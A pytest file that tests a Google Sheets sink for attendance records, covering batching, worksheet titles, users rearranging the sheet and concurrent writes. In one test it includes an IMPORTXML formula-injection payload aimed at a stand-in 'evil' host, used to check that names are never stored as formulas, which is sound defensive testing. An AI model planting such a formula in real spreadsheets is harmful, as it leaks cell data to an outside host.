"""The Sheets sink with the real gspread and google-auth, on a server that behaves like Google's: rows and people."""

from __future__ import annotations

import contextlib
import threading
import time
from collections.abc import Callable
from typing import Any

import pytest
from sheets_rows import expected, names, rows
from sheets_server import Cell, Fault, Formula, Sheet, SheetsServer

from optimind.errors import DeliveryDelayed, DeliveryRefused
from optimind.sinks._sheets_setup import Comparison
from optimind.sinks._sheets_table import HEADER as COLUMNS
from optimind.sinks.sheets import SheetsSink
from optimind.testing.sinks import make_row

pytest_plugins = ("sheets_fixtures",)
HEADER = list(COLUMNS)


# what is written


def test_the_first_delivery_makes_worksheet_header_and_row(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("r1"))
    header, first = server.sheet.lines()
    assert header == HEADER
    assert first == [
        "r1", "2026-09-01", "maths", "p-r1", "Name r1", "present", "2026-09-01T08:00:00+00:00",
        "2026-09-01T08:45:00+00:00", 2650.5, "room-101", 0.83, 0.21, "camera", "", "", "", "",
    ][: len(first)]  # fmt: skip
    assert server.sheets["Sheet1"].cells == {}


def test_a_batch_costs_two_reads_and_one_write(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("r1"))
    server.requests.clear()
    sink.deliver(rows(*(f"r{number}" for number in range(400))))
    kinds = [request.rpartition("/")[2].rpartition(":")[2] for request in server.requests]
    assert kinds == ["batchGet", "batchUpdate", "batchGet"]
    assert len(names(server)) == 400


def test_the_token_is_asked_for_with_the_least_scope_and_kept(server: SheetsServer, sink: SheetsSink) -> None:
    # The server refuses any scope but that of spreadsheets.
    for _ in range(3):
        sink.deliver(rows("r1"))
    assert server.requests.count("POST /token") == 1


@pytest.mark.parametrize("title", ["Log", "Class 7'b", "Teilnahme ÄÖ 王", "A1"])
def test_any_title(server: SheetsServer, make_sink: Callable[..., SheetsSink], title: str) -> None:
    make_sink(worksheet=title).deliver(rows("r1"))
    assert names(server, title) == expected("r1")


def test_a_title_is_the_same_in_any_case(server: SheetsServer, make_sink: Callable[..., SheetsSink]) -> None:
    server.sheets["LOG"] = Sheet("LOG", 5)
    make_sink().deliver(rows("r1"))
    assert names(server, "LOG") == expected("r1")


def test_the_worksheet_of_an_older_version_is_used_on(
    server: SheetsServer, make_sink: Callable[..., SheetsSink]
) -> None:
    server.sheets["Attendance"] = old = Sheet("Attendance", 5)
    old.fill([HEADER[:13]])
    make_sink().deliver(rows("r1"))
    assert "Log" not in server.sheets
    assert names(server, "Attendance") == expected("r1")
    assert server.sheets["Attendance"].lines()[0] == HEADER
    make_sink(worksheet="Log").deliver(rows("r2"))
    assert names(server, "Log") == expected("r2")


def test_a_worksheet_that_only_has_the_old_title_is_not(
    server: SheetsServer, make_sink: Callable[..., SheetsSink]
) -> None:
    server.sheets["Attendance"] = Sheet("Attendance", 5)
    server.sheets["Attendance"].fill([["our own list"]])
    make_sink().deliver(rows("r1"))
    assert names(server, "Log") == expected("r1")


def test_names_are_never_formulas(server: SheetsServer, sink: SheetsSink) -> None:
    evil = '=IMPORTXML("http://evil/?"&A1;"//a")'
    sink.deliver([make_row("r1", name=evil, session="+1", camera="@x", person_id="-1")])
    assert not any(isinstance(value, Formula) for value in server.sheet.cells.values())
    assert server.sheet.records()[0]["name"] == evil


def test_the_server_would_show_an_injected_formula(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("r1"))
    data = [{"range": "'Log'!E2", "values": [["=1+1"]]}]
    server._write({"valueInputOption": "USER_ENTERED", "data": data})
    assert server.sheet.records()[0]["name"] == Formula("=1+1")


def test_the_grid_grows(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("first"))
    server.sheet.rows = 5
    many = [f"r{number}" for number in range(20)]
    sink.deliver(rows(*many))
    assert names(server) == expected("first", *many)
    assert server.sheet.rows >= 22


def test_a_narrow_worksheet_grows(server: SheetsServer, sink: SheetsSink) -> None:
    server.sheets["Log"] = Sheet("Log", 5, rows=3, columns=2)
    sink.deliver(rows("a", "b", "c"))
    assert names(server) == expected("a", "b", "c")


# what people do in the sheet


def change(server: SheetsServer, edit: Callable[[list[list[Any]]], list[list[Any]]]) -> None:
    with server.lock:
        server.sheet.fill(edit(server.sheet.lines()))


def insert_column(lines: list[list[Any]]) -> list[list[Any]]:
    return [[*line[:4], "Notes" if number == 0 else f"note {line[4]}", *line[4:]] for number, line in enumerate(lines)]


def reverse_columns(lines: list[list[Any]]) -> list[list[Any]]:
    return [line[::-1] for line in lines]


def sort_rows(lines: list[list[Any]]) -> list[list[Any]]:
    return [lines[0], *lines[:0:-1]]


def insert_rows(lines: list[list[Any]]) -> list[list[Any]]:
    blank: list[Any] = [""] * len(lines[0])
    return [lines[0], blank, lines[1], blank, blank, *lines[2:]]


def delete_a_row(lines: list[list[Any]]) -> list[list[Any]]:
    return [lines[0], *lines[2:]]


def add_a_total(lines: list[list[Any]]) -> list[list[Any]]:
    total = ["", "", "", "", "Total", len(lines) - 1, *[""] * (len(lines[0]) - 6)]
    return [*lines, [""] * len(lines[0]), total]


def shout_headers(lines: list[list[Any]]) -> list[list[Any]]:
    return [[f" {text.upper()} " for text in lines[0]], *lines[1:]]


EDITS = [insert_column, reverse_columns, sort_rows, insert_rows, delete_a_row, add_a_total, shout_headers]


@pytest.mark.parametrize("edit", EDITS, ids=lambda edit: str(edit.__name__))
@pytest.mark.parametrize("restarted", [False, True], ids=["running", "restarted"])
def test_people_may_rearrange_the_sheet(
    server: SheetsServer, make_sink: Callable[..., SheetsSink], edit: Any, *, restarted: bool
) -> None:
    sink = make_sink()
    sink.deliver(rows("a", "b", "c", "d"))
    change(server, edit)
    foreign = [value for value in server.sheet.cells.values() if "note" in str(value) or value == "Total"]
    if restarted:
        sink = make_sink()
    sink.deliver([make_row("b", name="Bea"), *rows("e", "a")])
    found = {
        str(record.get("record_id") or record.get(" RECORD_ID ")): record.get("name") or record.get(" NAME ")
        for record in _records_in_any_case(server.sheet)
    }
    assert found == {**expected("a", "c", "d", "e"), "b": "Bea"}
    assert [value for value in server.sheet.cells.values() if "note" in str(value) or value == "Total"] == foreign


def _records_in_any_case(sheet: Sheet) -> list[dict[str, Cell | Formula]]:
    header, *lines = sheet.lines()
    keys = [str(text).strip().lower() for text in header]
    records = [dict(zip(keys, line, strict=True)) for line in lines]
    kept = [record for record in records if record["record_id"]]
    assert len({record["record_id"] for record in kept}) == len(kept)
    return kept


def test_notes_stay_beside_their_record(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("a", "b", "c"))
    change(server, insert_column)
    change(server, sort_rows)
    sink.deliver(rows("a", "b", "c", status="late"))
    for record in server.sheet.records():
        assert record["Notes"] == f"note {record['name']}"
        assert record["status"] == "late"


@pytest.mark.parametrize("edit", [sort_rows, insert_rows, delete_a_row], ids=lambda edit: str(edit.__name__))
def test_a_sheet_rearranged_between_read_and_write_is_mended(server: SheetsServer, sink: SheetsSink, edit: Any) -> None:
    truth = {row.record_id: row for row in rows("a", "b", "c", "d", "e")}
    sink.deliver(list(truth.values()))
    change(server, insert_column)
    server.faults.append(Fault("values:batchUpdate", action=lambda: change(server, edit)))
    truth["b"] = make_row("b", name="Name b", status="late")
    batch = [truth["b"], make_row("f", name="Name f")]
    for _ in range(3):
        try:
            sink.deliver(batch)
        except DeliveryDelayed as error:
            # What the outbox does: the batch again, and what was lost.
            batch += [truth[each] for each in error.missing if each in truth and truth[each] not in batch]
        else:
            break
    else:
        pytest.fail("it did not settle")
    found = names(server)
    assert {key: found.get(key) for key in "bcdef"} == expected("b", "c", "d", "e", "f")
    notes = {str(record["name"]): record["Notes"] for record in server.sheet.records() if record["Notes"]}
    assert all(note == f"note {name}" for name, note in notes.items())


@pytest.mark.parametrize("column", ["notes", "reason", "record_id"])
@pytest.mark.parametrize("status", ["present", "late"])
def test_columns_moved_between_read_and_write_leave_no_stray_rows(
    server: SheetsServer, sink: SheetsSink, column: str, status: str
) -> None:
    sink.deliver(rows("a", "b", "c"))

    def move() -> None:
        lines = server.sheet.lines()
        place = lines[0].index(column)
        target = 0 if place else len(lines[0])
        for line in lines:
            line.insert(target, line[place])
            del line[place + (target == 0)]
        server.sheet.fill(lines)

    server.faults.append(Fault("values:batchUpdate", action=move))
    batch = rows("a", "b", "c", "d", status=status, seconds_seen=77.0)
    for _ in range(4):
        with contextlib.suppress(DeliveryDelayed):
            sink.deliver(batch)
            break
    else:
        pytest.fail("it did not settle")
    assert sorted(map(str, names(server))) == ["a", "b", "c", "d"]
    assert sink.compare(batch, frozenset()) == Comparison()


def test_two_machines_that_choose_the_same_row_both_get_one(
    server: SheetsServer, make_sink: Callable[..., SheetsSink], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("optimind.sinks._sheets_worksheet._SETTLE_S", 0.5)
    one, two = make_sink(), make_sink()
    one.deliver(rows("first"))
    two.deliver(rows("first"))
    two_has_written = threading.Event()
    held_up = Fault("values:batchUpdate", action=lambda: bool(two_has_written.wait(10)))
    server.faults.append(held_up)
    slow = threading.Thread(target=one.deliver, args=(rows("one"),))
    slow.start()
    while held_up in server.faults:
        time.sleep(0.001)
    server.faults.append(Fault("values:batchUpdate", after=True, action=two_has_written.set))
    with pytest.raises(DeliveryDelayed) as caught:
        two.deliver(rows("two"))
    slow.join()
    assert caught.value.missing == ("two",)
    assert names(server) == expected("first", "one")
    two.deliver(rows("two"))
    assert names(server) == expected("first", "one", "two")


def test_a_copied_row_is_emptied_when_its_record_changes(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("a", "b"))
    change(server, lambda lines: [*lines, lines[1]])
    sink.deliver(rows("a", status="late"))
    assert [(record["record_id"], record["status"]) for record in server.sheet.records()] == [
        ("a", "late"),
        ("b", "present"),
    ]


def test_a_deleted_worksheet_is_made_again(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("a"))
    del server.sheets["Log"]
    sink.deliver(rows("b"))
    assert names(server) == expected("b")


def test_a_deleted_column_comes_back_at_the_right(server: SheetsServer, sink: SheetsSink) -> None:
    sink.deliver(rows("a"))
    change(
        server, lambda lines: [[*line[:4], *line[5:], note] for line, note in zip(lines, ["", "my note"], strict=True)]
    )
    sink.deliver(rows("a", "b"))
    assert names(server) == expected("a", "b")
    assert "my note" in server.sheet.cells.values()


@pytest.mark.parametrize(
    "lines",
    [
        [["Shopping list"], ["milk"]],
        [[""], ["something below an empty first row"]],
        [["r1", "2026-09-01"], HEADER],
    ],
    ids=["foreign", "no header", "sorted with its header"],
)
def test_a_sheet_that_is_not_ours_is_left_alone(server: SheetsServer, sink: SheetsSink, lines: list[list[str]]) -> None:
    server.sheets["Log"] = sheet = Sheet("Log", 5)
    sheet.fill(lines)
    before = dict(sheet.cells)
    for _ in range(2):
        with pytest.raises(DeliveryRefused, match="has no column 'record_id'") as caught:
            sink.deliver(rows("a"))
    assert "sheets: worksheet:" in caught.value.mend
    assert sheet.cells == before
    sheet.fill([HEADER])
    sink.deliver(rows("a"))
    assert names(server) == expected("a")


# the status check


def test_check_makes_worksheet_and_header(server: SheetsServer, sink: SheetsSink) -> None:
    sink.check()
    assert server.sheet.lines() == [HEADER]
    sink.check()


def test_check_tells_what_is_wrong(server: SheetsServer, sink: SheetsSink) -> None:
    server.editors.clear()
    with pytest.raises(DeliveryRefused, match="may not be written"):
        sink.check()
    with server.down(), pytest.raises(DeliveryDelayed, match="cannot be reached"):
        sink.check()
